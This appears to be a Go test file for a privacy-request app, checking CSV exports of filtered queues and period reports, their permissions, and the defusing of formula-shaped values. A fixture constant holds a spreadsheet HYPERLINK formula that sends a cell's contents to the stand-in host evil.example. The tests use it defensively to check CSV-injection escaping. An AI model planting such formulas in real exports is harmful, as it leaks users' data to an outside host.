package app_test

import (
	"encoding/csv"
	"net/http"
	"strings"
	"testing"
	"time"

	"github.com/kactoily/privacydesk/export"
	"github.com/kactoily/privacydesk/internal/testapp"
	"github.com/kactoily/privacydesk/internal/testdb"
	"github.com/kactoily/privacydesk/links"
	"github.com/kactoily/privacydesk/models"
	"github.com/kactoily/privacydesk/workflows"
)

const formulaName = `=HYPERLINK("http://evil.example/?leak="&A2,"Click")`

// readList parses a CSV list of requests download and returns its rows by id.
func readList(t *testing.T, ans answer) map[string]map[string]string {
	t.Helper()
	if ans.Status != http.StatusOK || !strings.HasPrefix(ans.Header.Get("Content-Type"), "text/csv") ||
		!strings.Contains(ans.Header.Get("Content-Disposition"), "attachment") {
		t.Fatalf("CSV download: %d %q %q\n%s", ans.Status, ans.Header.Get("Content-Type"), ans.Header.Get("Content-Disposition"), ans.Body)
	}
	recs, err := csv.NewReader(strings.NewReader(ans.Body)).ReadAll()
	if err != nil || len(recs) == 0 {
		t.Fatalf("CSV does not parse: %v\n%s", err, ans.Body)
	}
	if got := strings.Join(recs[0], ","); got != strings.Join(export.RequestListHeader, ",") {
		t.Fatalf("header %q", got)
	}
	out := map[string]map[string]string{}
	for _, rec := range recs[1:] {
		row := map[string]string{}
		for i, h := range recs[0] {
			row[h] = rec[i]
		}
		out[row["id"]] = row
	}
	return out
}

// TestQueueCSVListsTheFilteredQueueWithHostileValuesDefused exports the
// queue filtered to access requests: every one of them (more than a
// batch) and nothing else, with its dates, assignee and outcome; an
// assignee named like a spreadsheet formula comes out as text.
func TestQueueCSVListsTheFilteredQueueWithHostileValuesDefused(t *testing.T) {
	t.Parallel()
	testdb.Each(t, func(t *testing.T, dialect string) {
		a := testapp.New(t, dialect, testapp.Options{DBSessions: true, Limits: roomy.Limits, NoJobs: true})
		root := adminActor(t, a)
		agent, _ := signedIn(t, a, "quinn@kactoily.example", "Quinn Agent", models.RoleAgent)
		if _, err := a.Svc.AddStaff(t.Context(), workflows.NewStaff{Email: "evil@kactoily.example", Name: formulaName,
			Role: models.RoleAgent, Password: "a long enough password"}); err != nil {
			t.Fatal(err)
		}
		evil := staffUser(t, a, "evil@kactoily.example")
		var ids []string
		for range 205 { // more than one batch of the export
			ids = append(ids, fileConfirmed(t, a, root, models.TypeAccess, "acc@example.com", "Acc"))
		}
		if _, err := a.Svc.Assign(t.Context(), root, ids[0], evil.ID); err != nil {
			t.Fatal(err)
		}
		other := fileConfirmed(t, a, root, models.TypeDeletion, "del@example.com", "Del")

		rows := readList(t, agent.get(t, links.QueueCSVPage(map[string][]string{"type": {models.TypeAccess}})))
		if len(rows) != len(ids) || rows[other] != nil {
			t.Fatalf("the list has %d rows (deletion %s in it: %v), want the %d access requests", len(rows), other, rows[other] != nil, len(ids))
		}
		r := reloadRequest(t, a, ids[0])
		got := rows[ids[0]]
		want := map[string]string{"type": "access", "channel": "staff", "status": "verified",
			"received": r.CreatedAt.UTC().Format(time.RFC3339), "verified": r.VerifiedAt.UTC().Format(time.RFC3339),
			"due": r.DueAt.UTC().Format(time.RFC3339), "closed": "", "assignee": "'" + formulaName, "outcome": "", "days_to_respond": ""}
		for k, v := range want {
			if got[k] != v {
				t.Errorf("%s = %q, want %q", k, got[k], v)
			}
		}
		if bad := agent.get(t, links.QueueCSV+"?status=nope"); bad.Status != http.StatusBadRequest {
			t.Errorf("a bad filter: %d, want 400", bad.Status)
		}
	})
}

// TestReportRequestListCoversExactlyThePeriodFiledWithOutcomes files
// requests a second either side of a period's two bounds and proves the
// report's CSV list holds exactly those inside it (the first day from
// midnight, the last day to its end), with a denial's outcome (a reason
// shaped like a formula stays inside the cell's text) and its days to
// respond; only admins may download it.
func TestReportRequestListCoversExactlyThePeriodFiledWithOutcomes(t *testing.T) {
	t.Parallel()
	testdb.Each(t, func(t *testing.T, dialect string) {
		a := testapp.New(t, dialect, testapp.Options{DBSessions: true, Limits: roomy.Limits, NoJobs: true,
			Start: time.Date(2026, 3, 1, 23, 59, 59, 0, time.UTC)})
		admin, root := signedIn(t, a, "ada@kactoily.example", "Ada Admin", models.RoleAdmin)
		agent, _ := signedIn(t, a, "quinn@kactoily.example", "Quinn Agent", models.RoleAgent)
		before := fileConfirmed(t, a, root, models.TypeAccess, "a@example.com", "A")
		a.Clock.Advance(time.Second) // 2 March, 00:00:00: the first instant in
		first := fileConfirmed(t, a, root, models.TypeDeletion, "b@example.com", "B")
		a.Clock.Advance(36 * time.Hour)
		if _, err := a.Svc.Deny(t.Context(), root, first, formulaName); err != nil {
			t.Fatal(err)
		}
		a.Clock.Advance(60*time.Hour - time.Second) // 5 March, 23:59:59: the last instant in
		last := fileAccess(t, a, "c@example.com", "C")
		a.Clock.Advance(time.Second) // 6 March: out
		after := fileConfirmed(t, a, root, models.TypeAccess, "d@example.com", "D")

		path := links.ReportsList + "?from=2026-03-02&to=2026-03-05"
		rows := readList(t, admin.get(t, path))
		if len(rows) != 2 || rows[first] == nil || rows[last] == nil {
			t.Fatalf("the list holds %v, want exactly %s and %s (not %s, %s)", keys(rows), first, last, before, after)
		}
		if d := rows[first]; d["status"] != "denied" || d["outcome"] != "denied: "+formulaName || d["days_to_respond"] != "1.5" ||
			d["closed"] != "2026-03-03T12:00:00Z" {
			t.Errorf("denied row: %v", d)
		}
		if p := rows[last]; p["status"] != models.StatusPendingVerification || p["verified"] != "" || p["due"] != "" {
			t.Errorf("unverified row: %v", p)
		}
		if ans := agent.get(t, path); ans.Status != http.StatusForbidden {
			t.Errorf("an agent downloading the report's list: %d, want 403", ans.Status)
		}
		if ans := admin.get(t, links.ReportsList+"?from=2026-03-05&to=2026-03-01"); ans.Status != http.StatusBadRequest {
			t.Errorf("a period ending before it starts: %d, want 400", ans.Status)
		}
	})
}

func keys(m map[string]map[string]string) []string {
	var out []string
	for k := range m {
		out = append(out, k)
	}
	return out
}
